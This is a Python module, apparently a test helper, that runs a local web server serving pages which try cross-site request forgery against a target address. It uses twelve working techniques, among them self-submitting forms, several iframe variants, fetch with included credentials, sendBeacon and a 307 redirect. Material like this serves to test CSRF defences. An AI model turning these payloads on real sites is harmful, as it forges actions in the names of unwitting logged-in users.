"""Foreign pages that try to act with the cookie of their visitor (cross-site request forgery)."""

from __future__ import annotations

import threading
from contextlib import contextmanager
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, quote, urlsplit

_SEND = "<body onload='document.forms[0].submit()'>"


def form(action: str, /, **attributes: str) -> str:
    """Return a form that submits itself to an address, with the fields of a remark."""
    more = " ".join(f'{name}="{value}"' for name, value in attributes.items())
    return f'{_SEND}<form method="post" action="{action}" {more}><input name="text" value="forged"></form>'


WAYS = {
    "a form": form,
    "a form of plain text": lambda target: form(target, enctype="text/plain"),
    "a form without referrer": lambda target: f'<meta name="referrer" content="no-referrer">{form(target)}',
    "a form into a frame": lambda target: f'<iframe name="inside"></iframe>{form(target, target="inside")}',
    "a frame": lambda target: f'<iframe srcdoc="{escape(form(target))}"></iframe>',
    "a sandbox": lambda target: f'<iframe sandbox="allow-forms allow-scripts" srcdoc="{escape(form(target))}"></iframe>',
    "a frame of data": lambda target: f'<iframe src="data:text/html,{quote(form(target))}"></iframe>',
    "a frame of a blob": lambda target: (
        f'<body><script type="text/plain">{form(target)}</script><iframe></iframe><script>'
        "const page = new Blob([document.scripts[0].text], { type: 'text/html' });"
        "document.querySelector('iframe').src = URL.createObjectURL(page)</script>"
    ),
    "a new window": lambda target: form(target, target="_blank"),
    "a fetch": lambda target: (
        f"<script>fetch('{target}', {{ method: 'POST', mode: 'no-cors', credentials: 'include',"
        " body: new URLSearchParams({ text: 'forged' }) })</script>"
    ),
    "a beacon": lambda target: (
        f"<script>navigator.sendBeacon('{target}', new URLSearchParams({{ text: 'forged' }}))</script>"
    ),
    "a redirect": lambda target: form(f"/redirect?to={quote(target, safe='')}"),
}  # fmt: skip
"""The ways in which a page sends a forged request, by their names in its address."""


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        url = urlsplit(self.path)
        target = parse_qs(url.query)["to"][0]
        self._answer(200, WAYS[url.path.strip("/").replace("-", " ")](target).encode())

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self._answer(307, b"", Location=parse_qs(urlsplit(self.path).query)["to"][0])

    def _answer(self, status: int, body: bytes, **headers: str) -> None:
        self.send_response(status)
        for name, value in {"Content-Type": "text/html", "Content-Length": str(len(body)), **headers}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: object) -> None:
        """Say nothing."""


@contextmanager
def forging():
    """Context manager: serve foreign pages; yields their port."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def address(host: str, port: int, way: str, target: str) -> str:
    """Return the address of the page that attacks `target` in this way."""
    return f"http://{host}:{port}/{way.replace(' ', '-')}?to={quote(target, safe='')}"
